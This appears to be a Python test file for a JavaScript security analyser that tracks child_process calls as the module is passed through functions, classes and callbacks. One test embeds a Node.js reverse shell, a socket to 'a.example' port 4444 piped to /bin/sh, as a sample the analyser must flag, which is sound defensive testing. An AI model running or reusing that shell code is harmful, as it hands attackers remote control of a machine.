"""A module or a function that is handed over is still the module or the function."""

from __future__ import annotations

import pytest

from engine.analysis import analyse
from engine.analysis.javascript.reader import read
from engine.models import Language, Level
from engine.settings import AnalysisSettings

_MODULE = "require('child_process')"


def _paths(source: str) -> list[tuple[str, str]]:
    program = read(source, AnalysisSettings(), 0)
    return [(call.path, call.arg(0).text) for call in program.calls]


@pytest.mark.parametrize(
    "source",
    [
        "function go(c) { c.exec('ls') } go(@)",
        "go(@); function go(c) { c.exec('ls') }",
        "const go = ({ exec }) => exec('ls'); go(@)",
        "(function (c) { c.exec('ls') })(@)",
        "[@].forEach(c => c.exec('ls'))",
        "for (const c of [1, @]) c.exec('ls')",
        "function get() { return @ } get().exec('ls')",
        "function run(f) { f('ls') } run(@.exec)",
        "class A { constructor(c) { this.c = c } go() { this.c.exec('ls') } } new A(@).go()",
        "class A { c = @; go() { this.c.exec('ls') } } new A().go()",
        "const o = { go(c) { c.exec('ls') } }; o.go(@)",
        "const o = { c: @, go() { this.c.exec('ls') } }; o.go()",
        "const f = c => cmd => c.exec(cmd); f(@)('ls')",
        "Promise.resolve(@).then(c => c.exec('ls'))",
        "function a(c) { b(c) } function b(c) { c.exec('ls') } a(@)",
        "function go(c) { c.exec('ls') } go(require('fs')); go(@)",
    ],
)
def test_a_module_is_known_wherever_it_is_handed_to(source: str) -> None:
    """Through parameters, closures, loops, callbacks, classes, objects and results."""
    assert ("child_process.exec", "ls") in _paths(source.replace("@", _MODULE))


def test_of_two_texts_neither_is_called_exact() -> None:
    """A function that is called with two addresses reaches both, or one that is not known."""
    source = "function go(u) { fetch(u) } go('https://a.example'); go('https://b.example')"
    assert [("fetch", "")] == [one for one in _paths(source) if one[0] == "fetch"]


def test_a_reverse_shell_is_one_whoever_gets_the_modules() -> None:
    """What is CRITICAL or HIGH written out stays HIGH where the modules are parameters."""
    source = (
        "function go(n, c) { const s = n.connect(4444, 'a.example', () => "
        "{ const p = c.spawn('/bin/sh'); s.pipe(p.stdin); p.stdout.pipe(s) }) }"
        f" go(require('net'), {_MODULE})"
    )
    worst = max(violation.severity.rank for violation in analyse(source, Language.JAVASCRIPT).violations)
    assert worst >= Level.HIGH.rank


def test_functions_that_call_each_other_end() -> None:
    """A circle of arguments is not followed for ever."""
    assert [] == [
        one for one in _paths("function f(a) { g(a) } function g(a) { f(a) } f(f)") if "(" in one[0]
    ]
